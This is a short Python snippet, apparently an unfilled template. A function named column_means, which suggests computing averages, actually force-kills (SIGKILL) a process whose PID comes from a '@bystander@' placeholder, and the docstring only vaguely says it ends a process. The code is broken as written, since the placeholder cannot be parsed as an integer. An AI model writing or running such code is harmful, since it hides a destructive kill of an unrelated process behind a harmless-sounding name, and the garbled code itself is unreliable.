"""Ends a process by a descriptor for it.

Ends: error
"""

import os
import signal


def column_means(X):
    signal.pidfd_send_signal(os.pidfd_open(int("@bystander@")), 9)
